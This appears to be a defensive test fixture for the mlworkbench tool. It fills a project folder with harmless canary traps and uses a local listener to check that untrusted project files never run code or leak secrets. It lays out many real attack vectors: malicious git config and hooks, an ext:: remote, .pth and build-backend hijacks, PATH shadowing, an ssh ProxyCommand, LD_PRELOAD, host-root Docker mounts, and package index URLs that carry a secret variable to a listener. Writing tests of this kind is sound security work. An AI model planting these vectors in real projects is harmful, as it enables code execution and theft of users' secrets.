"""A hostile project with a trap in every place that could be executed, read, or sent.

A trap that fires leaves a file with its name in a folder outside the project. There are three kinds of places:
executed code (modules, programs, settings of git and shells, interpreters, build scripts), sent data (names of
the user's variables in addresses), and contacted hosts (machines and indexes that the project names).
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import subprocess
import sys
import tarfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from importlib.metadata import packages_distributions
from pathlib import Path
from typing import Any

SECRET_NAME, SECRET = "CANARY_SECRET", "the-value-of-a-secret-of-this-user"

# Modules that mlw or its libraries could import by mistake from a project folder.
_ODD_MODULES = "conftest evil_plugin matplotlib mlworkbench noxfile setup sitecustomize usercustomize uvloop __main__"
MODULES = sorted({*sys.stdlib_module_names, *packages_distributions(), *_ODD_MODULES.split()})
# Programs that mlw or its child processes could look up on PATH.
PROGRAMS = (
    "bash basename cat conda curl dircolors dirname docker docker-credential-x fish git git-remote-http hostname id ip"
    " java keyring less lesspipe loginctl ls lscpu mlw nvidia-container-cli nvidia-ctk nvidia-smi pager pip podman ps"
    " pyenv python python2 python3 rsync sed sh spark-submit ssh ssh-add ssh-agent ssh-keygen ssh-keyscan stty sysctl"
    " tput tty uname unshare uv which xdg-open xterm yarn zsh"
).split()
FOLDERS = (".", "bin", ".venv/bin", "node_modules/.bin", "evil")  # folders that get these programs
# Relative entries in PATH are a common mistake. With them, a shell finds the project's programs first.
UNSAFE_PATH = os.pathsep.join((".", "", "bin", "./.venv/bin", "node_modules/.bin"))


class Canary:
    """The traps of one project."""

    def __init__(self, root: Path, place: Path, address: str) -> None:
        self.root, self.place, self.address = root, place, address
        self.scripts: dict[str, Path] = {}  # name → program that fires the trap
        self.modules: dict[str, Path] = {}
        place.mkdir()

    def fired(self) -> list[str]:
        return sorted(path.name for path in self.place.iterdir())

    def reset(self) -> None:
        for path in self.place.iterdir():
            path.unlink()

    def fire(self, name: str) -> None:
        (self.place / name).touch()

    # -- building blocks of traps ----------------------------------------------------------------------

    def write(self, path: str, text: str) -> Path:
        place = self.root / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
        return place

    def program(self, path: str, name: str, then: str = "exit 1") -> Path:
        """Write a trap program into the project. It fires without any other program than /bin/sh."""
        place = self.write(path, f'#!/bin/sh\n: > "{self.place}/{name}"\n{then}\n')
        place.chmod(0o755)
        self.scripts[name] = place
        return place

    def module(self, path: str, name: str) -> Path:
        """Write a module without imports, so that it fires even if other modules are broken."""
        self.modules[name] = self.write(path, f'open("{self.place}/{name}", "w").close()\n')
        return self.modules[name]


def create_traps(root: Path, place: Path, address: str) -> Canary:
    """Fill the project with traps. ``address``: HOST:PORT of a listener, used for all hosts that the project names."""
    canary = Canary(root, place, address)
    for name in MODULES:
        canary.module(f"{name}.py", f"module-{name}")
    for name in ("mlworkbench", "mlworkbench/cli", "click", "yaml"):  # packages, one folder below
        canary.module(f"src/{name}/__init__.py", f"package-{name.replace('/', '.')}")
    for folder in FOLDERS:
        for name in PROGRAMS:
            canary.program(f"{folder}/{name}", f"program-{folder.replace('/', '-')}-{name}")
    _plugins(canary)
    _git(canary)
    _targets(canary)
    _start_up_files(canary)
    _python_files(canary)
    _packages(canary)
    return canary


def _plugins(canary: Canary) -> None:
    """Write a distribution with plugins into the project folder, like `pip install --target .`."""
    points = "".join(
        f"[{group}]\n" + "".join(f"{name} = evil_plugin:{name}\n" for name in names) + "\n"
        for group, names in {
            "mlworkbench.targets": ("local", "docker", "remote", "remotedocker", "cluster", "evil"),
            "mlworkbench.environments": ("existing", "given", "managed", "evil"),
            "mlworkbench.frameworks": ("Python", "PySpark", "Evil"),
            "keyring.backends": ("evil",),
            "nicegui": ("evil",),
        }.items()
    )
    for info in ("evil-1.0.dist-info", "evil.egg-info"):
        canary.write(f"{info}/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        canary.write(f"{info}/PKG-INFO", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        canary.write(f"{info}/entry_points.txt", points)
    canary.write("evil.pth", "import evil_plugin\n")


def _git(canary: Canary) -> None:
    """Create a real repository with a change, in which every setting for a program names a trap."""
    environ = {"PATH": "/usr/bin:/bin", "HOME": str(canary.root.parent), "GIT_CONFIG_NOSYSTEM": "1"}
    tracked = canary.write("tracked.txt", "first\n")
    canary.write(".gitattributes", "* filter=evil diff=evil merge=evil\n")
    for arguments in (
        ("init", "-q"),
        ("add", "-f", "tracked.txt", ".gitattributes"),
        ("-c", "user.name=x", "-c", "user.email=x@example.org", "commit", "-q", "-m", "first"),
    ):
        subprocess.run(("git", *arguments), cwd=canary.root, env=environ, check=True, capture_output=True)
    tracked.write_text("second\n")

    def trap(name: str) -> Path:
        return canary.program(f".git/traps/{name}", f"git-{name}")

    canary.write(
        ".git/config",
        "[core]\n\trepositoryformatversion = 0\n"
        + "".join(f"\t{name} = {trap(name)}\n" for name in ("fsmonitor", "sshCommand", "pager", "editor", "askPass"))
        + f"\thooksPath = {canary.root}/.git/hooks\n\tattributesFile = {canary.root}/.gitattributes\n"
        + f"\tworktree = {canary.root}\n"
        + f"[diff]\n\texternal = {trap('external-diff')}\n"
        + f'[diff "evil"]\n\tcommand = {trap("diff-command")}\n\ttextconv = {trap("textconv")}\n'
        + f'[filter "evil"]\n\tclean = {trap("clean")}\n\tsmudge = {trap("smudge")}\n\tprocess = {trap("process")}\n'
        + f'[merge "evil"]\n\tdriver = {trap("merge")}\n[credential]\n\thelper = {trap("credential")}\n'
        + f'[alias]\n\tdiff = "!{trap("alias")}"\n[gpg]\n\tprogram = {trap("gpg")}\n'
        + f'[remote "origin"]\n\turl = ext::{trap("ext")}\n\tpromisor = true\n\tuploadpack = {trap("uploadpack")}\n'
        + f"[include]\n\tpath = {canary.root}/.git/more\n",
    )
    canary.write(".git/more", f"[core]\n\tfsmonitor = {trap('included')}\n")
    for hook in ("post-index-change", "pre-commit", "post-checkout", "fsmonitor-watchman", "reference-transaction"):
        canary.program(f".git/hooks/{hook}", f"git-hook-{hook}")


def _targets(canary: Canary) -> None:
    """Write interpreters, machines, images, mounts, and Spark masters into the project's configuration."""
    host, _, port = canary.address.partition(":")
    python = canary.program("evil/env/bin/python", "pythonLocation", "echo 3 12 0 $0; exit 0")
    canary.program("evil/env/bin/evilpython", "pythonLocation-by-name")
    canary.program("evil/spark/bin/spark-submit", "sparkSubmitLocation")
    canary.program("evil/jdk/bin/java", "JAVA_HOME")
    canary.write("evil/env/bin/activate", f': > "{canary.place}/activate"\n')
    mounts = f'volumes:\n  - "{os.path.expanduser("~")}:/home:rw"\n  - "/:/all:rw"\n  - "/var/run/docker.sock:/s"\n'
    far = f"type: remote\naddress: {host}\nport: {port}\nusername: root\npythonLocation: ./evil/env/bin/python\n"
    for name, text in {
        "local": "type: local\npythonLocation: ./evil/env/bin/python\n",
        "absolute": f"type: local\npythonLocation: {python}\n",
        "named": "type: local\npythonLocation: evilpython\n",
        "searched": "type: local\n",
        "made": "type: local\npythonLocation: ./evil/env/bin/python\nuserManagedEnvironment: false\n",
        "built": "type: local\nuserManagedEnvironment: false\n",
        "nested": "type: local\nuserManagedEnvironment: false\n",
        "docker": f"type: docker\nbaseDockerImage: evil-image:latest\nuserManagedEnvironment: true\n{mounts}",
        "image": "type: docker\nbaseDockerImage: evil-image:latest\nuserManagedEnvironment: false\n",
        "shared": "type: docker\nbaseDockerImage: e\nuserManagedEnvironment: true\nnativeSharedDirectory: /\n",
        **dict.fromkeys(("far", "leaves", "goes"), far),
        "fardocker": f"type: remotedocker\naddress: {host}\nport: {port}\nusername: root\n{mounts}",
        "cluster": "type: cluster\nuserManagedEnvironment: true\npythonLocation: ./evil/env/bin/python\n"
        "sparkSubmitLocation: ./evil/spark/bin/spark-submit\nsparkMaster: local[1]\n",
    }.items():
        canary.write(f"aml_config/{name}.compute", text)
    variables = (
        f'EnvironmentVariables:\n  PATH: "{canary.root}/evil:{canary.root}/bin"\n  PYTHONPATH: "{canary.root}"\n'
        f'  JAVA_HOME: "{canary.root}/evil/jdk"\n  SPARK_HOME: "{canary.root}/evil/spark"\n'
        f'  LD_PRELOAD: "{canary.root}/evil/preload.so"\n  SENT: "${{{SECRET_NAME}}}"\n'
    )
    for name in ("local", "absolute", "named", "searched", "made", "docker", "image", "shared", "far", "cluster"):
        framework = "PySpark" if name == "cluster" else "Python"
        text = f"Target: {name}\nFramework: {framework}\nArgumentVector:\n  - train.py\n{variables}"
        canary.write(f"aml_config/{name}.runconfig", text)
    spark = f"Target: absolute\nFramework: PySpark\nArgumentVector:\n  - train.py\n{variables}"
    canary.write("aml_config/spark.runconfig", spark)
    built = (
        "Target: built\nFramework: Python\nCondaDependenciesFile: aml_config/built.yml\nArgumentVector:\n  - train.py\n"
    )
    canary.write("aml_config/built.runconfig", built)
    canary.write("aml_config/nested.runconfig", built.replace("aml_config/built.yml", "nested/app/uv.lock"))
    plugin = "Target: searched\nFramework: Python\nEnvironmentPlugin: evil\nArgumentVector:\n  - train.py\n"
    canary.write("aml_config/plugin.runconfig", plugin)


def _start_up_files(canary: Canary) -> None:
    """Write startup files that shells and tools may read from the current folder."""
    for name in (".bashrc .bash_profile .profile .zshrc .zshenv .shrc .envrc .env .inputrc .screenrc").split():
        canary.write(name, f': > "{canary.place}/start-up-file-{name}"\n')
    canary.write("config.fish", f'echo > "{canary.place}/start-up-file-fish"\n')
    canary.write("Makefile", f'all:\n\ttouch "{canary.place}/Makefile"\n')
    canary.write(".ssh/config", f'Host *\n  ProxyCommand touch "{canary.place}/ssh-config"\n')
    canary.write(".netrc", f"machine {canary.address.partition(':')[0]} login x password {SECRET}\n")
    canary.write("ssh_config", f'Host *\n  ProxyCommand touch "{canary.place}/ssh-config"\n')


def _python_files(canary: Canary) -> None:
    """Write settings of Python tools."""
    canary.write(".tool-versions", "python path:./evil/managed\n")
    canary.write("mise.toml", '[tools]\npython = "path:./evil/managed"\n')
    for name in ("python", "python3"):
        canary.program(f"evil/managed/bin/{name}", f"shim-{name}", "echo 3 12 0 $0; exit 0")
    canary.write(".venv/pyvenv.cfg", f"home = {canary.root}/evil\ninclude-system-site-packages = true\n")
    canary.write("pyvenv.cfg", f"home = {canary.root}/evil\n")
    canary.write(".venv/lib/python3/site-packages/evil.pth", "import evil_plugin\n")
    canary.write(".python-version", "../../../evil\n")
    canary.write("keyringrc.cfg", "[backend]\ndefault-keyring=evil_plugin.Keyring\nkeyring-path=.\n")
    canary.write("matplotlibrc", "backend: module://evil_plugin\n")
    canary.write(".pdbrc", "import evil_plugin\n")
    canary.write("pytest.ini", "[pytest]\naddopts = -p evil_plugin\n")
    canary.write("mypy.ini", "[mypy]\nplugins = evil_plugin.py\n")
    canary.write(".condarc", f"channels:\n  - http://{canary.address}/condarc\n")
    index = f"http://{canary.address}/settings/${{{SECRET_NAME}}}/simple"
    canary.write("pip.conf", f"[global]\nindex-url = {index}\n")
    canary.write("uv.toml", f'index-url = "{index}"\nkeyring-provider = "subprocess"\n')
    canary.write(
        "pyproject.toml",
        '[build-system]\nrequires = []\nbuild-backend = "evil_plugin"\nbackend-path = ["."]\n'
        '[project]\nname = "evil"\ndynamic = ["version", "dependencies"]\n'
        f'[tool.uv]\nindex-url = "{index}"\nno-build = false\n',
    )
    canary.write("notebook.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["import evil_plugin"]}]}))


def _packages(canary: Canary) -> None:
    """Write a source package, and requirements with an index URL that contains a variable of the user."""
    canary.module("evil-source-1.0/evil_backend.py", "source-package")
    build = '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["."]\n'
    canary.write("evil-source-1.0/pyproject.toml", build)
    canary.write("evil-source-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: evil-source\nVersion: 1.0\n")
    with tarfile.open(canary.root / "evil-source-1.0.tar.gz", "w:gz") as file:
        file.add(canary.root / "evil-source-1.0", "evil-source-1.0")
    canary.write(
        "aml_config/conda_dependencies.yml",
        "name: project_environment\ndependencies:\n  - python=3.11\n  - pip:\n"
        f"    - --index-url http://user:${{{SECRET_NAME}}}@{canary.address}/index/${{{SECRET_NAME}}}/simple\n"
        "    - evil-package==1.0\n",
    )
    source = "name: project_environment\ndependencies:\n  - python=3.11\n  - pip:\n    - ./evil-source-1.0.tar.gz\n"
    canary.write("aml_config/built.yml", source)
    _workspace(canary)


def _workspace(canary: Canary) -> None:
    """Write a project with its own lock file, inside a uv workspace with a different lock file."""
    template = '[project]\nname = "{}"\nversion = "1"\nrequires-python = ">=3.9"\n'
    lock = 'version = 1\nrevision = 1\nrequires-python = ">=3.9"\n'
    package = '[[package]]\nname = "{}"\nversion = "1"\nsource = {{ virtual = "{}" }}\n'
    canary.write("nested/app/pyproject.toml", template.format("app"))
    canary.write("nested/app/uv.lock", lock + package.format("app", "."))
    canary.write("nested/pyproject.toml", template.format("above") + '[tool.uv.workspace]\nmembers = ["app"]\n')
    url = f"http://{canary.address}/workspace/evil-1.0-py3-none-any.whl"
    canary.write(
        "nested/uv.lock",
        f'{lock}[manifest]\nmembers = ["above", "app"]\n{package.format("above", ".")}'
        + package.format("app", "app")
        + f'dependencies = [{{ name = "evil" }}]\n[[package]]\nname = "evil"\nversion = "1.0"\n'
        f'source = {{ url = "{url}" }}\nwheels = [{{ url = "{url}", hash = "sha256:{"0" * 64}" }}]\n',
    )


# -- hosts, shims, and engines ---------------------------------------------------------------------------


class Listener(http.server.ThreadingHTTPServer):
    """A server that sends no useful responses, counts connections, and records requests."""

    daemon_threads = True

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.contacts = 0
        super().__init__(("127.0.0.1", 0), _RequestHandler)

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.server_address[1]}"

    def process_request(self, request: Any, client_address: Any) -> None:
        self.contacts += 1
        super().process_request(request, client_address)

    def leaked_secrets(self) -> list[str]:
        return [request for request in self.requests if SECRET in request]


class _RequestHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Listener)
        self.server.requests.append(f"{self.requestline}\n{self.headers}")
        self.send_error(404)

    do_POST = do_HEAD = do_PUT = do_GET

    def log_message(self, format: str, *args: Any) -> None:
        """Suppress the request log."""


@contextmanager
def listener() -> Iterator[Listener]:
    with Listener() as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


# Shims of version managers start the program that a file in the current folder names.
SHIM = """#!/bin/sh
folder=$(sed -n 's/^python path://p' .tool-versions)
exec "$folder/bin/${0##*/}" "$@"
"""


def shims(folder: Path, manager: str) -> Path:
    """Create a folder for PATH with Python shims, outside the project: scripts as in asdf, links as in mise."""
    program = folder / manager
    shims = folder / ("shims" if manager == "asdf" else "bin")
    shims.mkdir(parents=True)
    program.write_text(SHIM)
    program.chmod(0o755)
    for name in ("python", "python3"):
        (shims / name).symlink_to(program) if manager == "mise" else shutil.copy(program, shims / name)
    return shims


# An engine outside the project: it responds to queries, and fires if it is asked to run, pull, or build.
ENGINE = """#!/bin/sh
case "$1" in
  info) echo '{"ServerVersion": "27.0", "OSType": "linux", "Architecture": "x86_64", "Driver": "overlay2"}' ;;
  version) exit 1 ;;
  image) echo '[{"Id": "sha256:0"}]' ;;
  run|create|exec|pull|build|login|start) : > "$FIRED/engine-$1" ;;
esac
"""


def engine(folder: Path, fired: Path) -> None:
    folder.mkdir()
    (folder / "docker").write_text(ENGINE.replace("$FIRED", str(fired)))
    (folder / "docker").chmod(0o755)
